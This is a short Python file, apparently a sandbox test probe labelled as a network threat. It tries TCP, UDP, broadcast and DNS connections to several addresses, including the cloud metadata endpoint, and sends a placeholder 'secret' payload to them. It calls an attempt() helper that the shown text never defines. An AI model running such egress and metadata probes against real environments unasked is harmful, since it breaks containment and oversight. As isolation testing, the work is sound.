"""Threat: talking to the network. TCP, UDP and names, over both protocols, to addresses near and far."""

import socket

def udp(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.connect(address)
        sender.send(b"secret")
        return sender.getsockname()

def task_func():
    for host in ("192.0.2.1", "10.0.0.1", "169.254.169.254", "172.17.0.1", "8.8.8.8"):
        attempt("tcp " + host, socket.create_connection, (host, 80), 1)
        attempt("udp " + host, udp, socket.AF_INET, (host, 53))
    attempt("udp6", udp, socket.AF_INET6, ("2001:db8::1", 53))
    attempt("broadcast", udp, socket.AF_INET, ("255.255.255.255", 9))
    attempt("dns", socket.getaddrinfo, "example.com", 443)
    print("tried", socket.if_nameindex())
    return 41
